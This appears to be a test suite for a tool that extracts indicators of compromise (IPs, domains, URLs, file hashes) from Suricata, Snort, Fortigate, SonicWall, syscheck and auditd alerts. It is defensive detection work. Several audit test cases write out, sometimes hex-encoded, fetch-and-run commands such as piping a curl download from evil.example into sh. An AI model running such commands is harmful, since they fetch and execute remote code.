import { assert, assertEquals } from "@std/assert";
import { parseAlert } from "../../lib/alert.ts";
import { argumentsIn } from "../../lib/sources/audit.ts";
import { type Findings, findIocs } from "../../lib/sources/mod.ts";
import { urlsIn } from "../../lib/sources/urls.ts";

function find(alert: unknown): Findings {
  return findIocs(parseAlert(JSON.stringify(alert)));
}

function valuesOf({ iocs }: Findings): string[] {
  return iocs.map(({ kind, value }) => `${kind} ${value}`);
}

const EICAR = [
  "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
  "sha1 3395856ce81f2b7382dee72602f798b642f14140",
  "md5 44d88612fea8a8f36de82e1278abb02f",
];

Deno.test("findIocs() finds an IoC once, whichever field and source has it", () => {
  const findings = find({
    rule: { groups: ["ids", "fortigate"] },
    data: {
      srcip: "1.2.3.4",
      src_ip: "::ffff:1.2.3.4",
      dstip: "1.2.3.4",
      hostname: "1.2.3.4",
    },
  });
  assertEquals(findings.sources, ["suricata", "fortigate"]);
  assertEquals(valuesOf(findings), ["ipv4 1.2.3.4"]);
});

Deno.test("findIocs() says what it leaves out of an alert with too many IoCs", () => {
  const answers = Array.from(
    { length: 250 },
    (_, n) => ({ rdata: `9.9.9.${n}` }),
  );
  const { iocs, passedOver, tooMany } = find({
    rule: { groups: ["ids"] },
    data: { dns: { answers } },
  });
  assertEquals(iocs.length, 100);
  assertEquals([passedOver.length, tooMany], [150, 150]);
  assertEquals(passedOver[0]?.reason, "more than 100 IoCs in one alert");
});

Deno.test("findIocs() asks for all spellings that an IoC has in an alert", () => {
  const { iocs } = find({
    rule: { groups: ["audit_command"] },
    data: {
      audit: {
        execve: { a1: "http://a.example/x", a2: "http://a.example/./x" },
      },
    },
  });
  assertEquals(iocs[0]?.spellings, [
    "http://a.example/x",
    "http://a.example:80/x",
    "http://a.example/./x",
  ]);
});

Deno.test("findIocs() bounds the spellings of an IoC", () => {
  const urls = Array.from(
    { length: 2000 },
    (_, n) => `http://a.example/${n}/../x`,
  );
  const start = performance.now();
  const { iocs } = find({
    rule: { groups: ["audit_command"] },
    data: { audit: { execve: { a1: urls.join(" ") } } },
  });
  assertEquals(iocs.map(({ value }) => value), [
    "http://a.example/x",
    "a.example",
  ]);
  assertEquals(iocs[0]?.spellings.length, 4);
  assert(performance.now() - start < 2000);
});

Deno.test("findIocs() says which source finds nothing", () => {
  const { sources, emptySources } = find({
    rule: { groups: ["fortigate", "ids"] },
    data: { src_ip: "9.9.9.9" },
  });
  assertEquals(sources, ["suricata", "fortigate"]);
  assertEquals(emptySources, ["fortigate"]);
});

Deno.test("snort reads a Snort alert's addresses whole, and Cisco's in all their names", async (t) => {
  const snort = (full_log: string) => ({
    rule: { groups: ["ids", "fts"] },
    decoder: { name: "snort" },
    data: { srcip: "9.9.9", dstip: "2a00:1450::21:80" },
    full_log,
  });
  const cases: Readonly<Record<string, readonly [unknown, readonly string[]]>> =
    {
      "Snort, IPv6 with ports": [
        snort(
          "[1:2:3] X {TCP} 2a00:1450:400f:80d::200e:41112 -> 2a00:1450::21:80",
        ),
        ["ipv6 2a00:1450:400f:80d::200e", "ipv6 2a00:1450::21"],
      ],
      "Snort, without ports": [
        snort("[1:2:3] X {IPV6-ICMP} 2a00:1450::21 -> 9.9.9.9"),
        ["ipv6 2a00:1450::21", "ipv4 9.9.9.9"],
      ],
      "Snort, without full_log": [
        { ...snort(""), data: { srcip: "9.9.9.9", dstip: "8.8.8.8:80" } },
        ["ipv4 9.9.9.9", "ipv4 8.8.8.8"],
      ],
      "Cisco, src_ip and dst_ip": [
        {
          rule: { groups: ["ids"] },
          data: { src_ip: "9.9.9.9", dst_ip: "8.8.8.8" },
        },
        ["ipv4 9.9.9.9", "ipv4 8.8.8.8"],
      ],
      "Cisco, src and dst": [
        { rule: { groups: ["ids"] }, data: { src: "9.9.9.9", dst: "outside" } },
        ["ipv4 9.9.9.9"],
      ],
    };
  for (const [name, [alert, expected]] of Object.entries(cases)) {
    await t.step(name, () => assertEquals(valuesOf(find(alert)), expected));
  }
});

Deno.test("syscheck reads by group or by event", async (t) => {
  const hashes = { sha256_after: EICAR[0]?.slice(7) };
  const cases: readonly [
    string,
    readonly string[],
    string | undefined,
    boolean,
  ][] = [
    [
      "added, by group",
      ["syscheck_file", "syscheck_entry_added"],
      undefined,
      true,
    ],
    [
      "modified, by group",
      ["syscheck_file", "syscheck_entry_modified"],
      undefined,
      true,
    ],
    ["deleted", ["syscheck_file", "syscheck_entry_deleted"], "deleted", false],
    ["added, by event", ["malware"], "added", true],
    ["modified, by event", ["malware"], "modified", true],
    ["a registry value", ["syscheck_entry_added"], undefined, true],
    ["neither", ["syscheck_file"], undefined, false],
  ];
  for (const [name, groups, event, isRead] of cases) {
    await t.step(name, () => {
      const { sources } = find({
        rule: { groups },
        syscheck: { ...hashes, event },
      });
      assertEquals(sources, isRead ? ["syscheck"] : []);
    });
  }
});

Deno.test("suricata reads DNS in all its versions", async (t) => {
  const query = { type: "query", rrname: "q.example", rrtype: "A" };
  const answers = [
    { rrname: "q.example", rrtype: "CNAME", rdata: "c.example" },
    {
      rrname: "c.example",
      rrtype: "AAAA",
      rdata: "2a00:1450:400f:080d:0000:0000:0000:200e",
    },
  ];
  const answered = [
    "domain q.example",
    "domain c.example",
    "ipv6 2a00:1450:400f:80d::200e",
  ];
  const cases: Readonly<Record<string, readonly [unknown, readonly string[]]>> =
    {
      "1, query": [query, ["domain q.example"]],
      "1, answer": [{ ...query, type: "answer", rdata: "9.9.9.9" }, [
        "domain q.example",
        "ipv4 9.9.9.9",
      ]],
      "2, query in an alert": [{ query: [query] }, ["domain q.example"]],
      "2, answers": [{ version: "2", rrname: "q.example", answers }, answered],
      "2, grouped": [
        {
          version: "2",
          rrname: "q.example",
          grouped: { CNAME: ["c.example"], AAAA: ["2a00:1450:400f:80d::200e"] },
        },
        answered,
      ],
      "2, names of other types": [
        {
          version: "2",
          rrname: "q.example",
          grouped: { MX: ["c.example"], PTR: ["9.9.9.9"], NS: ["n.example"] },
        },
        [
          "domain q.example",
          "domain c.example",
          "domain n.example",
          "ipv4 9.9.9.9",
        ],
      ],
      "2, one answer in an alert": [
        { answer: { rrname: "q.example", rdata: "9.9.9.9" } },
        ["domain q.example", "ipv4 9.9.9.9"],
      ],
      "2, answer in an alert": [{
        answer: { version: 2, rrname: "q.example", answers },
      }, answered],
      "3, queries": [{ version: "3", queries: [query], answers }, answered],
    };
  for (const [version, [dns, expected]] of Object.entries(cases)) {
    await t.step(version, () => {
      const findings = find({
        rule: { groups: ["ids", "suricata"] },
        data: { dns },
      });
      assertEquals(valuesOf(findings).sort(), [...expected].sort());
    });
  }
});

Deno.test("suricata reads HTTP hosts, URLs and files", async (t) => {
  const sha256 = EICAR[0]?.slice(7);
  const cases: Readonly<Record<string, readonly [unknown, readonly string[]]>> =
    {
      "a URL on another port": [
        { http: { hostname: "evil.example", http_port: "8080", url: "/a" } },
        [
          "domain evil.example",
          "url http://evil.example/a",
          "url http://evil.example:8080/a",
        ],
      ],
      "an absolute URL": [
        { http: { hostname: "evil.example", url: "http://evil.example/a" } },
        ["domain evil.example", "url http://evil.example/a"],
      ],
      "an absolute URL on another host": [
        { http: { hostname: "evil.example", url: "http://other.example/a" } },
        [
          "domain evil.example",
          "url http://other.example/a",
          "domain other.example",
        ],
      ],
      "a host that has its port": [
        {
          http: { hostname: "evil.example:8080", http_port: "8080", url: "/a" },
        },
        ["domain evil.example", "url http://evil.example:8080/a"],
      ],
      "a path without host": [{ http: { url: "/a" } }, []],
      "an address as host": [
        { http: { hostname: "9.9.9.9", url: "/a" } },
        ["ipv4 9.9.9.9", "url http://9.9.9.9/a"],
      ],
      "files of an alert": [{ files: [{ sha256 }] }, EICAR.slice(0, 1)],
      "a fileinfo record": [{ fileinfo: { sha256 } }, EICAR.slice(0, 1)],
    };
  for (const [name, [data, expected]] of Object.entries(cases)) {
    await t.step(name, () => {
      assertEquals(
        valuesOf(find({ rule: { groups: ["ids"] }, data })),
        expected,
      );
    });
  }
});

Deno.test("audit finds URLs wherever they stand in the command line", async (t) => {
  const evil = ["url http://evil.example/a.sh", "domain evil.example"];
  const hex = (text: string) =>
    [...new TextEncoder().encode(text)].map((byte) =>
      byte.toString(16).padStart(2, "0")
    ).join("").toUpperCase();
  const execve = (args: string) =>
    `type=SYSCALL msg=audit(1:2): a0=55f0 a1=687474703A2F2F6576696C2E6578616D706C652F62 type=EXECVE msg=audit(1:2): argc=9 ${args} type=CWD msg=audit(1:2): cwd="/root"`;
  const cases: Readonly<Record<string, readonly [string, readonly string[]]>> =
    {
      "alone": ['a0="curl" a1="http://evil.example/a.sh"', evil],
      "after an option": [
        'a0="curl" a1="--url=http://evil.example/a.sh"',
        evil,
      ],
      "in a shell's command": [
        `a0="sh" a1="-c" a2=${hex("curl 'http://evil.example/a.sh' | sh")}`,
        evil,
      ],
      "beyond a7": ['a0="x" a8="http://evil.example/a.sh"', evil],
      "hex beyond a7": [`a11=${hex('"http://evil.example/a.sh"')}`, evil],
      "in parts": [
        `a1_len=30 a1[0]="http://evil.ex" a1[1]=${hex("ample/a.sh")}`,
        evil,
      ],
      "before a semicolon": [
        `a1=${hex("curl http://evil.example/a.sh;sh a.sh")}`,
        [
          "url http://evil.example/a.sh;sh",
          "domain evil.example",
          "url http://evil.example/a.sh",
        ],
      ],
      "before &&": [
        `a1=${hex("curl http://evil.example/a.sh&&sh a.sh")}`,
        evil,
      ],
      "in an address": ['a1="http://9.9.9.9:8000/x"', [
        "url http://9.9.9.9:8000/x",
        "ipv4 9.9.9.9",
      ]],
      "none": ['a0="ls" a1="-l"', []],
    };
  for (const [name, [args, expected]] of Object.entries(cases)) {
    await t.step(name, () => {
      const alert = {
        rule: { groups: ["audit_command"] },
        full_log: execve(args),
      };
      assertEquals(valuesOf(find(alert)), expected);
    });
  }
});

Deno.test("audit asks for the host in whatever form it has, and says what it does not ask for", () => {
  const { iocs, passedOver } = find({
    rule: { groups: ["audit_command"] },
    data: {
      audit: {
        execve: { a0: "curl", a1: "http://10.0.0.1/x", a2: 7, a3: null },
      },
    },
  });
  assertEquals(iocs, []);
  assertEquals(passedOver.map(({ reason }) => reason), [
    "not a global address (ignore.private_networks)",
    "not a global address (ignore.private_networks)",
  ]);
});

Deno.test("argumentsIn() joins the parts of a long argument, past the tenth", () => {
  const parts = Array.from({ length: 12 }, (_, n) => `a1[${n}]="${n},"`);
  assertEquals(
    argumentsIn(`type=EXECVE msg=audit(1:2): a1_len=99 ${parts.join(" ")}`),
    new Map([["a1", "0,1,2,3,4,5,6,7,8,9,10,11,"]]),
  );
});

Deno.test("argumentsIn() reads EXECVE records alone", () => {
  const log =
    'type=EXECVE msg=audit(1:2): argc=2 a0="type=PATH" a1=6C73 type=EXECVE msg=audit(1:2): a2="x" type=PROCTITLE msg=audit(1:2): proctitle=6375726C a3="no"';
  assertEquals(
    argumentsIn(log),
    new Map([["a0", "type=PATH"], ["a1", "ls"], ["a2", "x"]]),
  );
});

Deno.test("urlsIn() leaves out what ends a sentence or a command", async (t) => {
  const cases: readonly (readonly [string, string[]])[] = [
    ["see http://a.example/x.", ["http://a.example/x"]],
    ["http://a.example/x:", ["http://a.example/x"]],
    ["http://a.example/x!", ["http://a.example/x"]],
    ["[http://a.example/x]", ["http://a.example/x"]],
    ["(http://a.example/x)", ["http://a.example/x"]],
    ["http://a.example/x_(y)", ["http://a.example/x_(y)"]],
    ["http://a.example/x?a=1&b=2", ["http://a.example/x?a=1&b=2"]],
    ["HTTPS://a.example/ ftp://b.example/", [
      "HTTPS://a.example/",
      "ftp://b.example/",
    ]],
    ["ssh://a.example/", []],
    ["ldap://a.example:389/x", ["ldap://a.example:389/x"]],
    ["/?u=http%3A%2F%2Fa.example%2Fx%3Fy&z=1", [
      "http://a.example/x?y",
    ]],
    ["/?u=http%3a%2f%2fa.example%2f%zz", []],
  ];
  for (const [text, urls] of cases) {
    await t.step(
      text,
      () => assertEquals(urlsIn(text), urls),
    );
  }
});

Deno.test("urlsIn() and argumentsIn() take linear time", () => {
  const long = 1_000_000;
  const start = performance.now();
  urlsIn(`http://a.example/${".".repeat(long)}x`);
  urlsIn("http://".repeat(long / 10));
  argumentsIn(`type=EXECVE msg=audit(1:2): a0=${"a".repeat(long)}x`);
  argumentsIn('type=EXECVE msg=audit(1:2): a0="'.repeat(long / 30));
  assert(performance.now() - start < 2000);
});

Deno.test("sonicwall leaves dropped packets alone, by the firewall's own words", async (t) => {
  const alert = (full_log: string, action = "x") => ({
    rule: { groups: ["syslog", "sonicwall"] },
    data: { srcip: "9.9.9.9", action },
    full_log,
  });
  const cases = [
    ["dropped in msg", 'msg="TCP connection dropped" src=9.9.9.9', true],
    ["dropped in capitals", 'msg="UDP Packet Dropped"', true],
    ["a longer word", 'msg="Backdropped"', false],
    ["fw_action", 'msg="Web access" fw_action="drop"', true],
    ["fw_action without quotes", "m=1 fw_action=drop", true],
    [
      "a host with that name",
      'msg="Web site access denied" dstname=dropped.example',
      false,
    ],
  ] as const;
  for (const [name, log, isDropped] of cases) {
    await t.step(name, () => {
      const { iocs, passedOver } = find(alert(log));
      assertEquals(iocs.length === 0, isDropped);
      if (isDropped) {
        assertEquals(passedOver[0]?.reason, "the packet was dropped");
      }
    });
  }
  await t.step("the action, without full_log", () => {
    const { iocs } = find({
      ...alert("", "UDP packet dropped"),
      full_log: undefined,
    });
    assertEquals(iocs, []);
  });
});

Deno.test("sonicwall takes the host of dstname alone", () => {
  const findings = find({
    rule: { groups: ["sonicwall"] },
    full_log: 'a dstname="evil.example/x" b',
  });
  assertEquals(valuesOf(findings), ["domain evil.example"]);
});

Deno.test("fortigate asks for a URL on another port in both ways", () => {
  const data = { hostname: "evil.example", url: "/x", dstport: "8080" };
  assertEquals(valuesOf(find({ rule: { groups: ["fortigate"] }, data })), [
    "domain evil.example",
    "url http://evil.example/x",
    "url http://evil.example:8080/x",
    "url https://evil.example/x",
    "url https://evil.example:8080/x",
  ]);
});

Deno.test("fortigate leaves administrative actions alone, whatever their case", async (t) => {
  const cases = [
    ["login", true],
    ["Login", true],
    ["LOGOUT", true],
    ["config", true],
    ["Configuration", true],
    ["Edit", true],
    ["blocked", false],
    ["ssl-login-fail", false],
  ] as const;
  for (const [action, isAdministrative] of cases) {
    await t.step(action, () => {
      const { iocs, passedOver } = find({
        rule: { groups: ["fortigate"] },
        data: { action, srcip: "9.9.9.9" },
      });
      assertEquals(iocs.length === 0, isAdministrative);
      assertEquals(passedOver.length > 0, isAdministrative);
    });
  }
});

Deno.test("fortigate takes the scheme of a URL from the port, else asks for both", async (t) => {
  const cases = [
    [{ dstport: "80" }, ["http"]],
    [{ dstport: "443" }, ["https"]],
    [{}, ["http", "https"]],
  ] as const;
  for (const [data, schemes] of cases) {
    await t.step(JSON.stringify(data), () => {
      const findings = find({
        rule: { groups: ["fortigate"] },
        data: { ...data, hostname: "evil.example", url: "/x" },
      });
      assertEquals(valuesOf(findings), [
        "domain evil.example",
        ...schemes.map((scheme) => `url ${scheme}://evil.example/x`),
      ]);
    });
  }
});
